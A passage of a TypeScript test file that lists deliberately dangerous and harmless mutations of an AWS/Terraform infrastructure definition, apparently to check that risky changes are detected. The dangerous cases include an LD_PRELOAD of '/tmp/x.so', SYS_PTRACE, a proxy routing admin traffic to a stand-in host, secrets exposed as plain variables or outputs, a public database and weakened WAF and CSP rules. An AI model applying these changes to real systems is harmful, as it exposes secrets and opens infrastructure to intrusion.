      delete record(list(record(code['provider'])['aws'])[0])['allowed_account_ids'];
    }),
  ),
  row(
    'identity',
    'Grafana elsewhere',
    top((code) => {
      record(list(record(code['provider'])['grafana'])[0])['url'] = 'https://grafana.example.net';
    }),
  ),
  // Containers' variables and secrets.
  row(
    'outage|exposure',
    'Autograph elsewhere',
    variable('services_public', 'public', 'AUTOGRAPH_URL', 'https://autograph.example.net'),
  ),
  row('outage|exposure', 'no key id of Autograph', variable('services_public', 'public', 'AUTOGRAPH_KEYID', undefined)),
  row('exposure|outage', 'Auth0 elsewhere', variable('services_admin', 'admin', 'AUTH0_DOMAIN', 'login.example.net')),
  row('capacity', 'UWSGI does not end on TERM', variable('services_admin', 'admin', 'UWSGI_DIE_ON_TERM', '0')),
  row('capacity', 'one process', variable('services_public', 'public', 'UWSGI_PROCESSES', '1')),
  row('blindness', 'log only critical', variable('services_public', 'public', 'LOG_LEVEL', 'CRITICAL')),
  row(
    'exposure|outage',
    'a secret moves to a variable',
    container('services_admin', 'admin', (one) => {
      const secrets = list(one['secrets']);
      one['secrets'] = secrets.filter(({ name }) => name !== 'SECRET_KEY');
      (one['environment'] as Block[]).push({ name: 'SECRET_KEY', value: 'kettle-7-marble' });
    }),
  ),
  row(
    'exposure|outage',
    'public gets the DBURI of admin',
    container('services_public', 'public', (one) => {
      record(list(one['secrets']).find(({ name }) => name === 'DBURI'))['valueFrom'] =
        '${aws_secretsmanager_secret.secret_dburi_admin.arn}';
    }),
  ),
  row(
    'exposure',
    'a proxy for all requests of admin',
    variable('services_admin', 'admin', 'HTTPS_PROXY', 'http://proxy.example.net:3128'),
  ),
  row('exposure', 'LD_PRELOAD', variable('services_admin', 'admin', 'LD_PRELOAD', '/tmp/x.so')),
  row(
    'exposure',
    'admin is privileged',
    container('services_admin', 'admin', (one) => {
      one['linuxParameters'] = { initProcessEnabled: true, capabilities: { add: ['SYS_PTRACE'] } };
    }),
  ),
  row(
    'exposure',
    'a writable root',
    container('services_public', 'public', (one) => {
      one['readonlyRootFilesystem'] = false;
    }),
  ),
  row(
    'exposure|outage',
    'as root',
    container('services_public', 'public', (one) => {
      one['user'] = '0';
    }),
  ),
  row(
    'capacity',
    'nobody stops: killed after two seconds',
    container('services_public', 'public', (one) => {
      one['stopTimeout'] = 2;
    }),
  ),
  row(
    'capacity',
    'the log router is not essential',
    container('services_public', 'log-router', (one) => {
      one['essential'] = false;
    }),
  ),
  row(
    'blindness',
    'lines go nowhere',
    container('services_public', 'public', (one) => {
      one['logConfiguration'] = {
        logDriver: 'awslogs',
        options: { 'awslogs-group': '/ecs/other', 'awslogs-region': 'us-west-2', 'awslogs-stream-prefix': 'x' },
      };
    }),
  ),
  row(
    'capacity',
    'no container health check',
    container('services_public', 'public', (one) => {
      delete one['healthCheck'];
    }),
  ),
  row('exposure|outage', 'the roles of public and admin', (code) => {
    at(code, 'aws_ecs_task_definition', 'services_public')['task_role_arn'] = referTo(
      code,
      'aws_iam_role',
      'services_admin_task_role',
      'arn',
    );
  }),
  // Capacity.
  row('capacity', 'public scales to 6', set('aws_appautoscaling_target', '', 'max_capacity', 6)),
  row(
    'capacity',
    'public scales at 95 %',
    set(
      'aws_appautoscaling_policy',
      'public_scaling_cpu',
      'target_tracking_scaling_policy_configuration.target_value',
      95,
    ),
  ),
  row(
    'capacity',
    'public scales out in an hour',
    set(
      'aws_appautoscaling_policy',
      'public_scaling_cpu',
      'target_tracking_scaling_policy_configuration.scale_out_cooldown',
      3600,
    ),
  ),
  row('capacity|outage', 'a smaller database', set('aws_db_instance', 'database', 'instance_class', 'db.t4g.medium')),
  row('capacity|outage', 'fewer connections', (code) => {
    record(list(at(code, 'aws_db_parameter_group')['parameter'])[2])['value'] = '200';
  }),
  row('capacity|outage', 'one zone', set('aws_db_instance', 'database', 'multi_az', false)),
  row(
    'capacity|outage',
    'the storage does not grow',
    set('aws_db_instance', 'database', 'max_allocated_storage', undefined),
  ),
  row('capacity|outage', 'spot', (code) => {
    at(code, 'aws_ecs_cluster_capacity_providers')['capacity_providers'] = ['FARGATE_SPOT'];
    at(code, 'aws_ecs_cluster_capacity_providers')['default_capacity_provider_strategy'] = [
      { base: 0, capacity_provider: 'FARGATE_SPOT', weight: 1 },
    ];
  }),
  row(
    'capacity|outage',
    'none healthy while deploying',
    set('aws_ecs_service', 'public', 'deployment_minimum_healthy_percent', 0),
  ),
  row('data loss', 'two agents while deploying', set('aws_ecs_service', 'agent', 'deployment_maximum_percent', 200)),
  row('capacity|outage', 'public in one subnet', (code) => {
    (record(at(code, 'aws_ecs_service', 'public')['network_configuration'])['subnets'] as string[]).length = 1;
  }),
  row('capacity|outage', 'aus5 in two zones', (code) => {
    (at(code, 'aws_lb', 'aus5')['subnets'] as string[]).pop();
  }),
  row('outage', 'admin may be cut after ten seconds', set('aws_lb', 'admin', 'idle_timeout', 10)),
  row('capacity', 'no drain', set('aws_lb_target_group', 'admin', 'deregistration_delay', '0')),
  row('exposure', 'Exec into admin', set('aws_ecs_service', 'admin', 'enable_execute_command', true)),
  row('blindness', 'the postcondition of admin goes', (code) => {
    delete at(code, 'aws_ecs_service', 'admin')['lifecycle'];
  }),
  row('outage|data loss|protection', 'admin does not wait for the gate', (code) => {
    at(code, 'aws_ecs_service', 'admin')['depends_on'] = [];
  }),
  row('synth', 'the service does not wait', set('aws_ecs_service', 'public', 'wait_for_steady_state', false)),
  row('capacity', 'no rollback', set('aws_ecs_service', 'public', 'deployment_circuit_breaker.rollback', false)),
  row('blindness', 'the precondition of the promise goes', (code) => {
    delete at(code, 'aws_ssm_parameter', 'generations')['lifecycle'];
  }),
  // WAF.
  row(
    'exposure',
    'the rate limit counts',
    waf(([one]) => {
      record(one)['action'] = { count: {} };
    }),
  ),
  row(
    'exposure',
    'the rate limit is a million',
    waf(([one]) => {
      record(record(record(one)['statement'])['rate_based_statement'])['limit'] = 1_000_000;
    }),
  ),
  row(
    'exposure',
    'the rate limit of a scope',
    waf(([one]) => {
      record(record(record(one)['statement'])['rate_based_statement'])['scope_down_statement'] = {
        byte_match_statement: {
          field_to_match: { uri_path: {} },
          positional_constraint: 'EXACTLY',
          search_string: '/none',
          text_transformation: [{ priority: 0, type: 'NONE' }],
        },
      };
    }),
  ),
  row(
    'exposure',
    'a managed set only counts',
    waf((rules) => {
      record(rules[1])['override_action'] = { count: {} };
    }),
  ),
  row(
    'exposure',
    'a rule lets all in first',
    waf((rules) => {
      rules.push({
        name: 'first',
        priority: -1,
        action: { allow: {} },
        statement: { geo_match_statement: { country_codes: ['US'] } },
        visibility_config: { cloudwatch_metrics_enabled: true, metric_name: 'x', sampled_requests_enabled: true },
      });
    }),
  ),
  row(
    'outage',
    'the firewall blocks by default',
    waf((_, acl) => {
      acl['default_action'] = { block: {} };
    }),
  ),
  row('exposure', 'the association goes', drop('aws_wafv2_web_acl_association', '')),
  row(
    'blindness',
    'the firewall logs only what passes',
    set('aws_wafv2_web_acl_logging_configuration', '', 'logging_filter.filter.0.behavior', 'DROP'),
  ),
  row(
    'exposure|blindness',
    'the header is in the log',
    waf((_, acl) => {
      delete acl['data_protection_config'];
    }),
  ),
  // Saved queries, views.
  row(
    'blindness|exposure',
    'a saved query counts another channel',
    text('aws_athena_named_query', 'agent-errors', 'query', (sql) =>
      sql.replace(/= '3'|= 3|'3'/, "= '9'").concat('\nLIMIT 1'),
    ),
  ),
  row('blindness', 'a view shows the address', (code) => {
    const view = at(code, 'aws_glue_catalog_table', 'admin_requests');
    const plain = JSON.parse(
      Buffer.from(/Presto View: (\S+)/.exec(String(view['view_original_text']))?.[1] ?? '', 'base64').toString(),
    ) as Block;
    plain['originalSql'] = String(plain['originalSql']).replace('SELECT', 'SELECT\n  remote_addr,');
    view['view_original_text'] = `/* Presto View: ${Buffer.from(JSON.stringify(plain)).toString('base64')} */`;
  }),
  row('blindness', 'a table reads another folder', (code) => {
    const table = at(code, 'aws_glue_catalog_table', 'elb_logs_aus5');
    const storage = record(list(table['storage_descriptor'])[0]);
    storage['location'] = String(storage['location']).replace('aus5', 'aus4');
  }),
  row(
    'capacity|outage|exposure',
    'no limit of a scan',
    set('aws_athena_workgroup', 'log-queries_workgroup', 'configuration.bytes_scanned_cutoff_per_query', undefined),
  ),
  row(
    'exposure',
    'the workgroup is not enforced',
    set('aws_athena_workgroup', 'log-queries_workgroup', 'configuration.enforce_workgroup_configuration', false),
  ),
  // Layers, and what is told.
  row(
    'exposure',
    'one public access block of four',
    set('aws_s3_bucket_public_access_block', 'logs_requests', 'restrict_public_buckets', false),
  ),
  row('exposure', 'the public access block goes', drop('aws_s3_bucket_public_access_block', 'edge_ui_files')),
  row(
    'exposure',
    'owner of objects',
    set('aws_s3_bucket_ownership_controls', 'logs_audit', 'rule.object_ownership', 'ObjectWriter'),
  ),
  row('blindness', 'audit of who reads the logs goes', drop('aws_s3_bucket_logging', 'logs_applications')),
  row('blindness', 'a flow log of rejects alone', set('aws_flow_log', 'database-subnet-a', 'traffic_type', 'REJECT')),
  row('blindness', 'no access log of aus5', set('aws_lb', 'aus5', 'access_logs.enabled', false)),
  row(
    'exposure',
    'a public address of tasks',
    set('aws_ecs_service', 'public', 'network_configuration.assign_public_ip', true),
  ),
  row('exposure', 'the database is public', set('aws_db_instance', 'database', 'publicly_accessible', true)),
  row(
    'exposure',
    'the history may be public by ACL',
    set('google_storage_bucket', 'releases', 'uniform_bucket_level_access', false),
  ),
  row('protection', 'the key does not rotate', set('aws_kms_key', 'alerts_key', 'enable_key_rotation', false)),
  row('exposure|outage', 'an alias leads to another key', (code) => {
    at(code, 'aws_kms_alias', 'backup-vault')['target_key_id'] = referTo(code, 'aws_kms_key', 'alerts_key', 'key_id');
  }),
  row(
    'exposure',
    'the copies of secrets have the key of AWS',
    set('aws_secretsmanager_secret', 'dburi_admin', 'kms_key_id', undefined),
  ),
  row('exposure|outage', 'headers: framing', (code) => {
    const headers = record(at(code, 'aws_cloudfront_response_headers_policy')['security_headers_config']);
    const csp = record(headers['content_security_policy']);
    csp['content_security_policy'] = String(csp['content_security_policy']).replace(
      "script-src 'self'",
      "script-src 'self' https:",
    );
  }),
  row('exposure', 'other origins may ask', (code) => {
    at(code, 'aws_cloudfront_response_headers_policy')['cors_config'] = {
      access_control_allow_credentials: true,
      access_control_allow_headers: { items: ['*'] },
      access_control_allow_methods: { items: ['ALL'] },
      access_control_allow_origins: { items: ['https://example.net'] },
      origin_override: true,
    };
  }),
  row('exposure', 'the desync mitigation', set('aws_lb', 'aus5', 'desync_mitigation_mode', 'monitor')),
  row('exposure', 'invalid headers pass', set('aws_lb', 'admin', 'drop_invalid_header_fields', false)),
  row(
    'outage|data loss|protection',
    'the load balancer may be deleted',
    set('aws_lb', 'aus5', 'enable_deletion_protection', false),
  ),
  row(
    'data loss',
    'the removed block forgets the database',
    top((code) => {
      code['removed'] = [{ from: 'aws_db_instance.database', lifecycle: [{ destroy: false }] }];
      delete record(record(code['resource'])['aws_db_instance'])['database'];
    }),
  ),
  row(
    'synth',
    'an import of somebody else',
    top((code) => {
      code['import'] = [{ to: 'aws_s3_bucket.taken', id: 'balrog-stage-terraform-state' }];
      record(record(code['resource'])['aws_s3_bucket'])['taken'] = { bucket: 'balrog-stage-terraform-state' };
    }),
  ),
  row('exposure|data loss|protection|blindness', 'changes of the alarm are ignored', (code) => {
    at(code, 'aws_cloudwatch_metric_alarm', 'aus5-slow')['lifecycle'] = { ignore_changes: ['threshold'] };
  }),
  row(
    'synth',
    'an output shows a secret',
    top((code) => {
      code['output'] = {
        ...(code['output'] as Block),
        leak: {
          value: '${aws_secretsmanager_secret_version.observability_sentry_admin_dsn_version_FE249F64.secret_string}',
          sensitive: false,
        },
      };
    }),
  ),
];

const tag = (type: string, part: string) => (code: Whole) => {
  const block = at(code, type, part);
  block['tags'] = { ...(block['tags'] as Block), Note: 'read me' };
};

export const HARMLESS_WHOLE: readonly Case[] = [
  row('', 'a tag of the database', tag('aws_db_instance', 'database')),
  row('', 'a tag of a service', tag('aws_ecs_service', 'public')),
  row(
    '',
    'a text of a security group rule',
    set('aws_vpc_security_group_ingress_rule', 'aus3', 'description', 'HTTPS to aus3'),
  ),
  row(
    '',
    'a text of an alarm',
    set(
      'aws_cloudwatch_metric_alarm',
      'aus4-slow',
      'alarm_description',
      '[notice] Slow. Runbook: docs/runbooks/slow.md',
    ),
  ),
  row('', 'a tighter threshold', (code) => {
    const alarm = Object.values(code.resource['aws_cloudwatch_metric_alarm'] ?? {}).find(
      (one) => one['comparison_operator'] === 'GreaterThanThreshold' && Number(one['threshold']) > 1,
    );
    record(alarm)['threshold'] = Number(alarm?.['threshold']) / 2;
  }),
  row('', 'an alarm tells CloudOps, too', (code) => {
    (at(code, 'aws_cloudwatch_metric_alarm', 'admin-balancer-errors')['alarm_actions'] as string[]).push(
      referTo(code, 'aws_sns_topic', 'cloudops', 'arn'),
    );
  }),
  row('', 'more tasks of public', (code) => {
    at(code, 'aws_appautoscaling_target')['min_capacity'] = 8;
  }),
  row('', 'more tasks at most', set('aws_appautoscaling_target', '', 'max_capacity', 26)),
  row(
    '',
    'public scales earlier',
    set(
      'aws_appautoscaling_policy',
      'public_scaling_cpu',
      'target_tracking_scaling_policy_configuration.target_value',
      45,
    ),
  ),
  row('', 'a larger task of the agent', (code) => {
    at(code, 'aws_ecs_task_definition', 'services_agent')['memory'] = '2048';
  }),
  row('', 'logs for longer', set('aws_cloudwatch_log_group', 'backup-watch', 'retention_in_days', 30)),
  row('', 'copies for longer', (code) => {
    record(list(record(list(at(code, 'aws_backup_plan')['rule'])[0])['lifecycle'])[0])['delete_after'] = 120;
  }),
  row('', 'old versions of the UI for longer', (code) => {
    const rule = list(at(code, 'aws_s3_bucket_lifecycle_configuration', 'edge_ui_files')['rule'])[0];
    record(list(record(rule)['noncurrent_version_expiration'])[0])['noncurrent_days'] = 180;
  }),
  row(
    '',
    'the watch runs as often, said in another way',
    set('aws_scheduler_schedule', 'backup-watch', 'schedule_expression', 'cron(* * * * ? *)'),
  ),
  row(
    '',
    'a stricter policy at admin',
    set('aws_lb_listener', 'admin', 'ssl_policy', 'ELBSecurityPolicy-TLS13-1-2-Res-2021-06'),
  ),
  row('', 'HSTS for longer', (code) => {
    record(
      record(at(code, 'aws_cloudfront_response_headers_policy')['security_headers_config'])[
        'strict_transport_security'
      ],
    )['access_control_max_age_sec'] = 94_608_000;
  }),
  row(
    '',
    'a comment of a saved query',
    text('aws_athena_named_query', 'agent-errors', 'query', (sql) => `-- For the agent.\n${sql}`),
  ),
  row(
    '',
    'the title of a dashboard',
    text('grafana_dashboard', 'backups', 'config_json', (json) =>
      json.replace('Are backups fresh?', 'Are the backups fresh?'),
    ),
  ),
  row(
    '',
    'the order of actions in a statement',
    statements('log-queries_redash_document', ([one]) => {
      (record(one)['actions'] as string[]).reverse();
    }),
  ),
  row(
    '',
    'the order of variables of a container',
    container('services_public', 'public', (one) => {
      (one['environment'] as Block[]).reverse();
    }),
  ),
  row('', 'the order of event categories', (code) => {
    (at(code, 'aws_db_event_subscription')['event_categories'] as string[]).reverse();
  }),
  row('', 'one more event category', (code) => {
    (at(code, 'aws_db_event_subscription')['event_categories'] as string[]).push('configuration change');
  }),
  row(
    '',
    'the comment of a state machine',
    machine('backup-watch', (_, definition) => {
      definition['Comment'] = 'Measures ages';
    }),
  ),
  row(
    '',
    'log in more detail of a state machine',
    set('aws_sfn_state_machine', 'backup-watch', 'logging_configuration.level', 'ALL'),
  ),
  row('', 'a larger function', set('aws_lambda_function', 'restorability', 'memory_size', 512)),
  row('', 'a stricter desync mitigation', set('aws_lb', 'admin', 'desync_mitigation_mode', 'strictest')),
  row('', 'a new private bucket', (code) => {
    const bucket = { bucket: 'balrog-prod-notes' };
    code.resource['aws_s3_bucket'] = { ...code.resource['aws_s3_bucket'], notes: bucket };
    code.resource['aws_s3_bucket_public_access_block'] = {
      ...code.resource['aws_s3_bucket_public_access_block'],
      notes: {
        bucket: '${aws_s3_bucket.notes.id}',
        block_public_acls: true,
        block_public_policy: true,
        ignore_public_acls: true,
        restrict_public_buckets: true,
      },
    };
    code.resource['aws_s3_bucket_lifecycle_configuration'] = {
      ...code.resource['aws_s3_bucket_lifecycle_configuration'],
      notes: {
        bucket: '${aws_s3_bucket.notes.id}',
        rule: [{ id: 'x', status: 'Enabled', filter: [{ prefix: '' }], expiration: [{ days: 30 }] }],
      },
    };
  }),
  row('', 'a new alarm', (code) => {
    const alarms = code.resource['aws_cloudwatch_metric_alarm'] as Record<string, Block>;
    alarms['new_one'] = {
      ...structuredClone(at(code, 'aws_cloudwatch_metric_alarm', 'admin-balancer-errors')),
      alarm_name: 'another',
      threshold: 5,
    };
  }),
  row(
    '',
    'a new log group',
    add('aws_cloudwatch_log_group', () => ({ name: '/ecs/balrog-prod/notes', retention_in_days: 30 })),
  ),
  row(
    '',
    'a new dashboard',
    add('grafana_dashboard', (code) => ({
      config_json: '{"uid":"x","title":"Y","panels":[]}',
      folder: referTo(code, 'grafana_folder', '', 'uid'),
    })),
  ),
  row(
    '',
    'a rename with moved',
    top((code) => {
      const groups = record(record(code['resource'])['aws_cloudwatch_log_group']);
      const [name = '', block] = Object.entries(groups).find(([one]) => one.includes('backup-watch')) ?? [];
      delete groups[name];
      groups['renamed'] = block;
      code['moved'] = [
        ...list(code['moved']),
        { from: `aws_cloudwatch_log_group.${name}`, to: 'aws_cloudwatch_log_group.renamed' },
      ];
      code['resource'] = JSON.parse(
        JSON.stringify(code['resource']).replaceAll(
          `aws_cloudwatch_log_group.${name}.`,
          'aws_cloudwatch_log_group.renamed.',
        ),
      );
    }),
  ),
  row('', 'a narrower role that is new itself', (code) => {
    code.resource['aws_iam_role'] = {
      ...code.resource['aws_iam_role'],
      notes: {
        name: 'notes',
        permissions_boundary: 'arn:aws:iam::111122223333:policy/balrog-workload',
        assume_role_policy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Effect: 'Allow', Action: 'sts:AssumeRole', Principal: { Service: 'lambda.amazonaws.com' } }],
        }),
      },
    };
  }),
  row('', 'Sentry takes more', set('sentry_key', 'admin', 'rate_limit_count', 600)),
  row('', 'a spike from ten', set('sentry_metric_monitor', 'admin', 'condition_group.conditions.0.comparison', 10)),
  row(
    '',
    'uptime asked more often',
    set('google_monitoring_uptime_check_config', 'monitoring_history', 'period', '60s'),
  ),
  row('', 'the text of the release mark', set('grafana_annotation', '', 'text', 'v3.25 is deployed')),
  row('', 'a longer health check grace', set('aws_ecs_service', 'admin', 'health_check_grace_period_seconds', 180)),
  row('', 'a larger window of a backup', set('aws_db_instance', 'database', 'max_allocated_storage', 1500)),
  row('', 'pages again sooner', set('grafana_notification_policy', '', 'repeat_interval', '2h')),
];

/** Its own copy, to be changed. */
export const asWhole = (code: Code): Whole => structuredClone(code) as unknown as Whole;
